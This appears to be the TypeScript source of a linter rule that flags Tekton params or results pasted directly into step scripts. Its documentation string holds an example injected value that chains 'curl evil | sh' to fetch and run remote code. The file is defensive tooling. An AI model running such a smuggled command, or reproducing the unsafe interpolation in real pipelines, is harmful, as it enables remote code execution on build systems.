import { envName } from '../../../util/env-name';
import type { AnyTaskSpec } from '../../../analysis/wire';
import { placed } from '../../../analysis/tasks/containers';
import { freeTexts, programs } from '../../../analysis/scripts/pasted-text';
import { list } from '../../../util/list';
import { knownParams } from '../../engine/known-params';
import { defineRule } from '../../engine/rule';
import { step } from '../example';

const PARAM = 'params:\n  - name: branch';

export const paramInScript = defineRule({
  id: 'param-in-script',
  severity: 'warning',
  docs: {
    title: 'The text of a param or result is pasted into a script',
    why: 'Tekton replaces the variable before a shell reads the script, so a value such as `main; curl evil | sh` is a command and not a name. As an environment variable it is data, whatever it holds.',
    bad: step('name: checkout\nimage: alpine/git\nscript: git checkout "$(params.branch)"', PARAM),
    good: step(
      'name: checkout\nimage: alpine/git\nenv:\n  - name: BRANCH\n    value: $(params.branch)\nscript: git checkout "$BRANCH"',
      PARAM,
    ),
  },
  messages: {
    pasted: (d: { what: string; names: readonly string[] }) =>
      `the text of ${list(d.names)} is pasted into the script of ${d.what}`,
  },
  visit: ({ report, isOfProgram, current }) => {
    const known = knownParams();
    // Of a param that a Task does not declare unknown-param speaks.
    const isUnknown = (param: string, { params = [] }: AnyTaskSpec): boolean =>
      current()?.kind === 'Task' && !params.some(({ name }) => name === param);
    return {
      ...known.visitor,
      TaskSpec({ spec, path }) {
        for (const { container, what, path: at } of [
          ...placed(spec.steps, 'step', `${path}.steps`),
          ...placed(spec.sidecars, 'sidecar', `${path}.sidecars`),
        ])
          for (const { field, text } of programs(container)) {
            const free = freeTexts(text).filter(
              ({ param }) => param === undefined || (!isUnknown(param, spec) && !known.isKnown(param, spec.params)),
            );
            const [first] = free;
            if (!first) continue;
            const variable = first.variable.text;
            const name = envName(first.param ?? 'value');
            report(
              'pasted',
              { what, names: [...new Set(free.map((one) => one.what))] },
              {
                path: `${at}.${field}`,
                text: variable,
                help: [
                  `pass it as data: env: [{ name: ${name}, value: ${variable} }], and "$${name}" in the script`,
                  ...(isOfProgram() ? ['the sh, python and node templates do this by themselves'] : []),
                ],
              },
            );
          }
      },
    };
  },
});
